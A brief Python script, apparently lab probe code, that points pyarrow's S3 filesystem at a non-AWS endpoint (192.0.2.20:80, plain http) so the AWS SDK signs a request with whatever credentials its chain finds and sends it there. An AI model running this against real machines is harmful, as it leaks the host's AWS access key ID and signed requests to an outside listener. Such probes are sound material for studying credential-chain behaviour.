"""Makes the AWS SDK for C++ inside pyarrow sign a request to the probe, with what its chain finds."""

import os

from pyarrow import fs

region = os.environ.get("AWS_REGION") or os.environ.get("AWS_DEFAULT_REGION") or "us-east-1"
store = fs.S3FileSystem(
    region=region,
    endpoint_override="192.0.2.20:80",
    scheme="http",
    retry_strategy=fs.AwsStandardS3RetryStrategy(max_attempts=1),  # each attempt would walk the chain again
)
store.get_file_info("lab-bucket/key")
